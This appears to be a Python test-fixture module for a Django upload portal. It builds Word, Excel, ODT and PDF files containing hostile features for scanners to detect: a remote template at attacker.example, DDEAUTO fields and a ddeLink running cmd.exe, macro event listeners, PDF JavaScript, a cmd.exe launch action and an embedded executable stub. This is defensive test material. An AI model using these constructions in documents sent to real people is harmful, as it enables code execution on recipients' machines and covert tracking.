"""Documents that carry active or outward-reaching content, built in memory for the checks."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from tests.submissions.portal_files import docx_bytes, odt_bytes, pdf_bytes, xlsx

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def rewrite_zip(data, replace=None, add=()):
    """Return the zip `data` with entries replaced ({name: bytes}) and others added."""
    replace = dict(replace or {})
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, replace.pop(info.filename, source.read(info)))
        for name, payload in [*replace.items(), *add]:
            archive.writestr(name, payload)
    return buffer.getvalue()


def relationships(*rels):
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{OFFICE_REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for i, (kind, target, external) in enumerate(rels, start=900)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{REL_NS}">{items}</Relationships>'


def docx_with_rels(rels_part, *rels, name="workplan.docx", add=()):
    return SimpleUploadedFile(
        name, rewrite_zip(docx_bytes(), add=[(rels_part, relationships(*rels)), *add])
    )


def remote_template_docx():
    return docx_with_rels(
        "word/_rels/settings.xml.rels",
        ("attachedTemplate", "https://attacker.example/t.dotm", True),
    )


def hyperlink_docx():
    return docx_with_rels(
        "word/_rels/footnotes.xml.rels", ("hyperlink", "https://www.brsmeas.org/", True)
    )


def linked_picture_docx():
    return docx_with_rels(
        "word/_rels/header1.xml.rels", ("image", "https://tracker.example/pixel.png", True)
    )


def ole_docx():
    return docx_with_rels(
        "word/_rels/footer1.xml.rels",
        ("oleObject", "embeddings/oleObject1.bin", False),
        add=[("word/embeddings/oleObject1.bin", OLE_MAGIC + b"\0" * 512)],
    )


def ole_entry_docx():
    """An OLE compound file hidden under an innocent name, with no relationship to it."""
    return SimpleUploadedFile(
        "workplan.docx",
        rewrite_zip(docx_bytes(), add=[("word/media/image9.png", OLE_MAGIC + b"\0" * 512)]),
    )


def word_body(inner):
    return (
        f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body><w:p>{inner}</w:p>'
        "</w:body></w:document>"
    )


def docx_with_body(inner, name="workplan.docx"):
    return SimpleUploadedFile(
        name, rewrite_zip(docx_bytes(), replace={"word/document.xml": word_body(inner)})
    )


def dde_simple_docx():
    return docx_with_body(
        "<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
        '"/k calc.exe"\'><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    )


def dde_split_docx():
    """The field code split over several runs, as Word writes it after editing."""
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    return docx_with_body(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + run.format(" DD")
        + run.format("E")
        + run.format('AUTO c:\\\\windows\\\\cmd.exe "/c calc"')
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def page_field_docx():
    """An ordinary field (a page number): not DDE."""
    return docx_with_body(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def xlsx_bytes():
    return xlsx().read()


def xlsx_external_link(dde=False):
    sml = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    body = (
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
        if dde
        else '<externalBook><sheetNames><sheetName val="2015"/></sheetNames></externalBook>'
    )
    return SimpleUploadedFile(
        "budget.xlsx",
        rewrite_zip(
            xlsx_bytes(),
            add=[
                (
                    "xl/externalLinks/externalLink1.xml",
                    f'<?xml version="1.0"?><externalLink xmlns="{sml}">{body}</externalLink>',
                ),
                (
                    "xl/externalLinks/_rels/externalLink1.xml.rels",
                    relationships(("externalLinkPath", "file:///C:/Budgets/2015.xlsx", True)),
                ),
            ],
        ),
    )


ODF_NS = (
    ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_with_content(body, scripts=""):
    content = (
        f"<office:document-content{ODF_NS}><office:scripts>{scripts}</office:scripts>"
        f"<office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    )
    return SimpleUploadedFile("report.odt", odt_bytes(content=content))


def odt_event_listener():
    return odt_with_content(
        "<text:p>Report</text:p>",
        scripts=(
            '<office:event-listeners><script:event-listener script:language="ooo:script" '
            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main'
            '?language=Basic&amp;location=document"/></office:event-listeners>'
        ),
    )


def odt_script_link():
    return odt_with_content(
        '<text:p><text:a xlink:href="macro:///Standard.Module1.Main">Open</text:a></text:p>'
    )


def odt_ole_object():
    return odt_with_content(
        '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>'
    )


def _pdf_writer():
    from pypdf import PdfReader, PdfWriter

    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))


def _pdf(writer, name="workplan.pdf"):
    buffer = io.BytesIO()
    writer.write(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def javascript_pdf():
    """Document-level JavaScript, in the catalogue's name tree (run when the file opens)."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = _pdf_writer()
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');"),
        }
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("open"), writer._add_object(action)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _pdf(writer)


def launch_pdf():
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    return _pdf(writer)


def xfa_pdf():
    """A form in XML Forms Architecture, whose packets may hold scripts."""
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = _pdf_writer()
    packet = DecodedStreamObject()
    packet.set_data(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    )
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/XFA"): writer._add_object(packet)}
    )
    return _pdf(writer)


def attachment_pdf():
    writer = _pdf_writer()
    writer.add_attachment("payload.exe", b"MZ" + b"\0" * 64)
    return _pdf(writer)


def encrypted_pdf():
    writer = _pdf_writer()
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    return _pdf(writer)
